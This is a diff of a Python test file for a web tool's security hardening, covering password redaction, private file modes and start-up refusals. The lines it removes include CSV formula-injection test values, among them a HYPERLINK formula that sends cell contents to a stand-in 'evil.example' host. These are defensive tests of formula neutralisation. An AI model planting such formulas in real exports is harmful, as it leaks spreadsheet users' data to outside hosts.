@@ -1,9 +1,8 @@
-"""Issue 12 §6/§8 without a running web server: password redaction, owner-only data, CSV formula
-cells, the start-up refusals (port in use, unsupported database URL)."""
+"""Issue 12 §6/§8 without a running web server: passwords never shown (log lines, tracebacks,
+database errors), owner-only data, and the one-line refusal of a port in use."""
 
 from __future__ import annotations
 
-import csv
 import io
 import logging
 import socket
@@ -11,19 +10,12 @@ import stat
 from pathlib import Path
 
 import pytest
-from sqlalchemy import Engine
 
-from gaze import history
 from gaze.catalog.oc4d_db import read_database
-from gaze.config import SettingsError, load_settings
-from gaze.csvrow import spreadsheet_safe
-from gaze.export import CSV_HEADER, csv_rows
+from gaze.config import SettingsError
 from gaze.hardening import RedactingFormatter, port_in_use, private_dir, private_sqlite_file, redact
-from gaze.history import Filters
-from gaze.logs.format import format_session_line
 from gaze.startup import open_database
 from tests.test_config import _run_main
-from tests.test_history import IMPORT, insert, rec
 
 SECRET = "hunter2-Secret"
 
@@ -139,42 +131,15 @@ def test_users_command_makes_the_readme_layout_private(tmp_path: Path) -> None:
     assert mode(data) == 0o700 and mode(data / "gaze.db") == 0o600
 
 
-# ---------------------------------------------------------------- CSV for spreadsheets
+def test_a_shared_folder_is_never_tightened(tmp_path: Path) -> None:
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o1777)  # like /tmp: a data directory there must not lock everybody else out
+    private_dir(shared)
+    assert mode(shared) == 0o1777
 
 
-@pytest.mark.parametrize(
-    ("cell", "safe"),
-    [
-        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
-        ("+1+1", "'+1+1"),
-        ("-2+3", "'-2+3"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tcmd", "'\tcmd"),
-        ("\r=1", "'\r=1"),
-        ("anna@example.com", "anna@example.com"),
-        ("cdn_math", "cdn_math"),
-        (42, 42),
-        (-5, -5),  # a number is not a formula
-    ],
-)
-def test_spreadsheet_safe(cell: object, safe: object) -> None:
-    assert spreadsheet_safe(cell) == safe
-
-
-def test_csv_export_neutralises_formulas_the_log_line_does_not(engine: Engine) -> None:
-    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    insert(engine, [rec(1_800_000_000_000, 60, "10.0.0.7", evil, "@cdn_math")], IMPORT)
-    data = "".join(csv_rows(engine, history.Range(0, 2**62, "all"), Filters(), {"10.0.0.7": "+Tablet"}, lambda m: "-x"))
-    header, row = list(csv.reader(io.StringIO(data, newline="")))
-    assert tuple(header) == CSV_HEADER
-    assert row[0] == "'" + evil and row[4] == "'-x" and row[6] == "'@cdn_math" and row[7] == "'+Tablet"
-    assert row[5] == "60" and row[2] == "10.0.0.7"
-    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
-    # the session log line (what the upload scripts read) keeps the value as it was
-    assert f"userId={evil}|10.0.0.7" in format_session_line(1_800_000_000_000, evil, "10.0.0.7", "@cdn_math", 60)
-
-
-# ---------------------------------------------------------------- start-up refusals
+# ---------------------------------------------------------------- start-up refusal
 
 
 @pytest.mark.slow
@@ -191,46 +156,3 @@ def test_port_in_use_is_one_line_and_creates_nothing(tmp_path: Path) -> None:
     assert "Traceback" not in result.stderr and "first user" not in result.stdout + result.stderr
     assert not (tmp_path / "data").exists() and not (tmp_path / "logs").exists()  # no database, no admin
     assert port_in_use(port) is None
-
-
-@pytest.mark.slow
-def test_unsupported_database_url_exits_2(tmp_path: Path) -> None:
-    result = _run_main([], {"MODULEGAZE_DATABASE_URL": f"mysql://root:{SECRET}@127.0.0.1/gaze"}, tmp_path)
-    assert result.returncode == 2, result.stderr
-    lines = result.stderr.splitlines()
-    assert len(lines) == 1 and lines[0].startswith("modulegaze: MODULEGAZE_DATABASE_URL: "), result.stderr
-    assert "unsupported database URL" in lines[0] and "mysql://root:***@127.0.0.1/gaze" in lines[0]
-    assert SECRET not in result.stderr and "Traceback" not in result.stderr
-    assert not (tmp_path / "data").exists()
-
-
-@pytest.mark.usefixtures("clean_env")
-@pytest.mark.parametrize("url", ["foo", "sqlite://", "sqlite:///:memory:", "oracle+cx://u@h/d", "postgresql", "mysql:"])
-def test_unsupported_database_urls_are_bad_settings(monkeypatch: pytest.MonkeyPatch, url: str) -> None:
-    monkeypatch.setenv("MODULEGAZE_DATABASE_URL", url)
-    with pytest.raises(SettingsError) as info:
-        load_settings()
-    assert str(info.value).startswith("MODULEGAZE_DATABASE_URL: ") and "\n" not in str(info.value)
-
-
-@pytest.mark.usefixtures("clean_env")
-@pytest.mark.parametrize(
-    ("url", "kept"),
-    [
-        ("sqlite:////var/lib/modulegaze/gaze.db", "sqlite:////var/lib/modulegaze/gaze.db"),
-        ("postgresql://gaze@db/gaze", "postgresql://gaze@db/gaze"),
-        ("postgresql+psycopg://gaze@db/gaze", "postgresql+psycopg://gaze@db/gaze"),
-        ("postgres://gaze@db/gaze", "postgresql://gaze@db/gaze"),
-    ],
-)
-def test_supported_database_urls(monkeypatch: pytest.MonkeyPatch, url: str, kept: str) -> None:
-    monkeypatch.setenv("MODULEGAZE_DATABASE_URL", url)
-    assert load_settings().database_url == kept
-
-
-def test_a_shared_folder_is_never_tightened(tmp_path: Path) -> None:
-    shared = tmp_path / "shared"
-    shared.mkdir()
-    shared.chmod(0o1777)  # like /tmp: a data directory there must not lock everybody else out
-    private_dir(shared)
-    assert mode(shared) == 0o1777
